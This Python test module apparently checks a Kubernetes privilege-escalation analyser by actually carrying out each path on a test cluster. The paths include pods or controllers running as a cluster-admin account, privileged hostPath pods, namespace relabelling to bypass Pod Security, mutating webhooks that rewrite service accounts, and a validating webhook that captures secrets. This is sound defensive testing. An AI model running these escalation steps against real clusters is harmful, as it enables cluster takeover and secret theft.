"""The worlds of `edges`: pods, controllers, volumes, labels of namespaces, admission."""
import base64, contextlib, http.server, json, ssl, subprocess, threading, time

from server import Refused
from user import Made, container, pod_spec

ROOT = "sa:{n}/root -> everything -> cluster-admin"
ADMISSION = "admissionregistration.k8s.io"


def run_as_root(u, plural, group, kind, spec):
    """Has a controller make a pod of the account that may do everything, and takes its token"""
    o = {"apiVersion": f"{group}/v1" if group else "v1", "kind": kind, "metadata": {"name": "x"}, "spec": spec}
    u.do("POST", u.here(plural, group), o)
    u.undo.append(u.here(plural, group) + "/x")
    pods = lambda: [p for p in u.server.ask("GET", u.here("pods"))["items"] if p["spec"]["serviceAccountName"] == "root"]
    u.server.wait(f"{kind} makes its pod", pods, 100)      # a CronJob may take its minute
    u.must_reach(u.token_in(pods()[0]))
    for p in pods():
        u.undo.append(u.here("pods/" + p["metadata"]["name"]))


def create_pods(u):
    u.account()
    u.may("get", "", "pods")
    u.may("create", "", "pods", key=True)
    u.granted(within=True)

    def walk():
        pod = u.do("POST", u.here("pods"), {"metadata": {"name": "x"}, "spec": pod_spec("root")})
        u.undo.append(u.here("pods/x"))
        u.must_reach(u.token_in(pod))

    return Made("cluster-admin", "{u} -> create pods in {n} -> " + ROOT, walk)


def controller(name, plural, group, kind, more):
    def world(u):
        u.account()
        if kind == "DaemonSet":
            u.node(f"{u.name}-node")
        u.may("get", "", "pods")
        u.may("create", group, plural, key=True)
        u.granted(within=True)
        labels = {"app": "x"}
        template = {"metadata": {"labels": labels}, "spec": pod_spec("root") | ({"restartPolicy": "Never"} if kind == "Job" else {})}
        spec = more | {"template": template}
        if kind == "ReplicationController":
            spec["selector"] = labels
        elif kind == "CronJob":
            template["spec"]["restartPolicy"] = "Never"
            spec = {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": template}}}
        elif kind != "Job":
            spec["selector"] = {"matchLabels": labels}
        return Made("cluster-admin", "{u} -> create " + plural + " in {n} -> " + ROOT, lambda: run_as_root(u, plural, group, kind, spec))

    world.__name__ = name
    return world


def patch_deployments(u):
    u.account()
    labels = {"app": "x"}
    spec = {"selector": {"matchLabels": labels}, "template": {"metadata": {"labels": labels}, "spec": pod_spec()}}
    u.make(u.here("deployments", "apps"), {"metadata": {"name": "x"}, "spec": spec})
    u.may("get", "", "pods")
    u.may("patch", "apps", "deployments", names="x", key=True)
    u.granted(within=True)

    def walk():
        u.do("PATCH", u.here("deployments/x", "apps"), {"spec": {"template": {"spec": {"serviceAccountName": "root"}}}})
        pods = lambda: [p for p in u.server.ask("GET", u.here("pods"))["items"] if p["spec"]["serviceAccountName"] == "root"]
        u.server.wait("a pod of the new template", pods)
        u.must_reach(u.token_in(pods()[0]))

    return Made("cluster-admin", "{u} -> patch deployments in {n} -> " + ROOT, walk)


def mount_a_secret(u):
    """Over all namespaces, so that it is every secret"""
    u.make(u.here("secrets"), {"metadata": {"name": "s"}, "stringData": {"k": "v"}})
    u.may("get", "", "pods")
    u.may("create", "", "pods", key=True)
    u.granted()

    def walk():
        volume = {"name": "s", "secret": {"secretName": "s"}}
        spec = pod_spec(volumes=[volume], containers=[container(volumeMounts=[{"name": "s", "mountPath": "/s"}])])
        u.do("POST", u.here("pods"), {"metadata": {"name": "x"}, "spec": spec})
        u.undo.append(u.here("pods/x"))

    return Made("every secret", "{u} -> create pods in every namespace -> every secret", walk)


def taking_its_node():
    """What Pod Security admission refuses at baseline"""
    return {"containers": [{"name": "main", "image": "localhost/probe:1", "securityContext": {"privileged": True}, "volumeMounts": [{"name": "h", "mountPath": "/h"}]}],
            "volumes": [{"name": "h", "hostPath": {"path": "/"}}]}


def take_a_node(u):
    namespace = {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "restricted" if u.less else None}}}
    u.server.ask("PATCH", f"/api/v1/namespaces/{u.namespace}", namespace, kind="application/merge-patch+json")
    u.may("create", "", "pods")
    u.granted(within=True)

    def walk():
        u.do("POST", u.here("pods"), {"metadata": {"name": "x"}, "spec": taking_its_node()})
        u.undo.append(u.here("pods/x"))

    return Made("root on a node", "{u} -> create pods in {n} -> root on a node", walk)


def label_the_namespace(u):
    u.may("create", "", "pods")
    u.may("patch", "", "namespaces", key=True)
    u.granted(within=True)

    def walk():
        with contextlib.suppress(Refused):
            u.do("POST", u.here("pods"), {"metadata": {"name": "x"}, "spec": taking_its_node()})
            raise SystemExit("it is admitted before the label is changed")
        u.do("PATCH", f"/api/v1/namespaces/{u.namespace}", {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}})

        def admitted():
            with contextlib.suppress(Refused):
                u.do("POST", u.here("pods"), {"metadata": {"name": "x"}, "spec": taking_its_node()})
                return True
            return False

        u.server.wait("it is admitted now", admitted)
        u.undo.append(u.here("pods/x"))

    return Made("root on a node", "{u} -> create pods and patch namespaces in {n} -> root on a node", walk)


def a_host_path_through_a_volume(u):
    """Admitted where a host path in the pod itself is not; that the node's files are there is for `edges-on-nodes` to see"""
    u.may("create", "", "persistentvolumes", key=True)
    u.may("get", "", "pods")
    u.granted()
    u.may("create", "", "persistentvolumeclaims,pods")
    u.granted(within=True)

    def walk():
        ref = {"namespace": u.namespace, "name": "c"}
        size = {"storage": "1Gi"}
        u.do("POST", "/api/v1/persistentvolumes", {"metadata": {"name": u.name}, "spec": {
            "capacity": size, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/"}, "claimRef": ref, "storageClassName": ""}})
        u.undo.append(f"/api/v1/persistentvolumes/{u.name}")
        u.do("POST", u.here("persistentvolumeclaims"), {"metadata": {"name": "c"}, "spec": {
            "accessModes": ["ReadWriteOnce"], "resources": {"requests": size}, "volumeName": u.name, "storageClassName": ""}})
        spec = pod_spec(volumes=[{"name": "h", "persistentVolumeClaim": {"claimName": "c"}}], containers=[container(volumeMounts=[{"name": "h", "mountPath": "/h"}])])
        u.do("POST", u.here("pods"), {"metadata": {"name": "x"}, "spec": spec})
        u.undo.append(u.here("pods/x"))
        u.server.wait("the claim has the volume", lambda: u.server.ask("GET", u.here("persistentvolumeclaims/c"))["status"].get("phase") == "Bound")

    way = "{u} -> create persistentvolumes and create persistentvolumeclaims and create pods in {n} -> root on a node"
    return Made("root on a node", way, walk)


# ---- admission ----
class Webhook:
    """On loopback; answers each review with what `answer` makes of its request"""

    def __init__(self, folder, answer):
        crt, key = folder / "hook.crt", folder / "hook.key"
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=hook", "-addext", "subjectAltName=IP:127.0.0.1", "-days", "1",
                        "-keyout", key, "-out", crt], check=True, capture_output=True)

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                review = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                request = review["request"]
                response = {"uid": request["uid"], "allowed": True} | (answer(request) or {})
                data = json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "response": response}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *_):
                pass

        self.http = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(crt, key)
        self.http.socket = context.wrap_socket(self.http.socket, server_side=True)
        threading.Thread(target=self.http.serve_forever, daemon=True).start()
        self.client = {"url": f"https://127.0.0.1:{self.http.server_port}/", "caBundle": base64.b64encode(crt.read_bytes()).decode()}

    def configuration(self, name, namespace, resource):
        rule = {"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": [resource]}
        selector = {"matchLabels": {"kubernetes.io/metadata.name": namespace}}
        return {"metadata": {"name": name}, "webhooks": [{"name": "hook.test.invalid", "clientConfig": self.client, "rules": [rule], "sideEffects": "None",
                                                          "admissionReviewVersions": ["v1"], "failurePolicy": "Ignore", "namespaceSelector": selector}]}


def as_root():
    return [{"op": "replace", "path": "/spec/serviceAccountName", "value": "root"}]


def until_rewritten(u):
    """Someone else makes pods in the namespace, until one of them runs as the account"""
    for _ in range(200):
        pod = u.server.ask("POST", u.here("pods"), {"metadata": {"generateName": "x-"}, "spec": pod_spec()})
        u.undo.append(u.here("pods/" + pod["metadata"]["name"]))
        if pod["spec"]["serviceAccountName"] == "root":
            u.must_reach(u.token_in(pod))
            return
        time.sleep(0.1)
    raise Refused(403, "no pod was rewritten")


def mutating_webhooks(u):
    u.account()
    u.may("get", "", "pods")
    u.may("create", ADMISSION, "mutatingwebhookconfigurations", key=True)
    u.granted()

    def walk():
        patch = {"patchType": "JSONPatch", "patch": base64.b64encode(json.dumps(as_root()).encode()).decode()}
        hook = Webhook(u.server.dir, lambda request: patch)
        path = f"/apis/{ADMISSION}/v1/mutatingwebhookconfigurations"
        u.do("POST", path, hook.configuration(u.name, u.namespace, "pods"))
        u.undo.append(f"{path}/{u.name}")
        until_rewritten(u)

    return Made("cluster-admin", "{u} -> create mutatingwebhookconfigurations -> " + ROOT, walk)


def change_a_mutating_webhook(u):
    u.account()
    path = f"/apis/{ADMISSION}/v1/mutatingwebhookconfigurations"
    harmless = Webhook(u.server.dir, lambda request: {})
    u.make(path, harmless.configuration(u.name, u.namespace, "pods"))
    u.may("get", "", "pods")
    u.may("patch", ADMISSION, "mutatingwebhookconfigurations", names=u.name, key=True)
    u.granted()

    def walk():
        patch = {"patchType": "JSONPatch", "patch": base64.b64encode(json.dumps(as_root()).encode()).decode()}
        mine = Webhook(u.server.dir, lambda request: patch)
        u.do("PATCH", f"{path}/{u.name}", {"webhooks": mine.configuration(u.name, u.namespace, "pods")["webhooks"]})
        until_rewritten(u)

    return Made("cluster-admin", "{u} -> patch mutatingwebhookconfigurations -> " + ROOT, walk)


def mutating_policies(u):
    u.account()
    u.may("create", ADMISSION, "mutatingadmissionpolicies")
    u.may("create", ADMISSION, "mutatingadmissionpolicybindings", key=True)
    u.granted()

    def walk():
        path = f"/apis/{ADMISSION}/v1"
        rule = {"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}
        constraints = {"resourceRules": [rule], "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": u.namespace}}}
        expression = '[JSONPatch{op: "replace", path: "/spec/serviceAccountName", value: "root"}]'
        u.do("POST", f"{path}/mutatingadmissionpolicies", {"metadata": {"name": u.name}, "spec": {
            "matchConstraints": constraints, "reinvocationPolicy": "Never", "failurePolicy": "Ignore",
            "mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression": expression}}]}})
        u.undo.append(f"{path}/mutatingadmissionpolicies/{u.name}")
        u.do("POST", f"{path}/mutatingadmissionpolicybindings", {"metadata": {"name": u.name}, "spec": {"policyName": u.name}})
        u.undo.append(f"{path}/mutatingadmissionpolicybindings/{u.name}")
        until_rewritten(u)

    return Made("cluster-admin", "{u} -> create mutatingadmissionpolicies and create mutatingadmissionpolicybindings -> " + ROOT, walk)


def validating_webhooks(u):
    u.may("get", "", "pods")
    u.may("create", ADMISSION, "validatingwebhookconfigurations", key=True)
    u.granted()

    def walk():
        seen = []
        hook = Webhook(u.server.dir, lambda request: seen.append(request["object"]["data"]["k"]))
        path = f"/apis/{ADMISSION}/v1/validatingwebhookconfigurations"
        u.do("POST", path, hook.configuration(u.name, u.namespace, "secrets"))
        u.undo.append(f"{path}/{u.name}")

        def shown():
            made = u.server.ask("POST", u.here("secrets"), {"metadata": {"generateName": "s-"}, "stringData": {"k": "v"}})
            u.undo.append(u.here("secrets/" + made["metadata"]["name"]))
            return seen

        u.server.wait("a secret is shown", shown)
        assert base64.b64decode(seen[0]) == b"v"

    return Made("every secret", "{u} -> create validatingwebhookconfigurations -> every secret", walk)


WORLDS = [create_pods, controller("create_deployments", "deployments", "apps", "Deployment", {}), controller("create_daemonsets", "daemonsets", "apps", "DaemonSet", {}),
          controller("create_statefulsets", "statefulsets", "apps", "StatefulSet", {"serviceName": "x"}), controller("create_replicasets", "replicasets", "apps", "ReplicaSet", {}),
          controller("create_replicationcontrollers", "replicationcontrollers", "", "ReplicationController", {}), controller("create_jobs", "jobs", "batch", "Job", {}),
          controller("create_cronjobs", "cronjobs", "batch", "CronJob", {}),
          patch_deployments, mount_a_secret, take_a_node, label_the_namespace, a_host_path_through_a_volume, mutating_webhooks, change_a_mutating_webhook, mutating_policies, validating_webhooks]
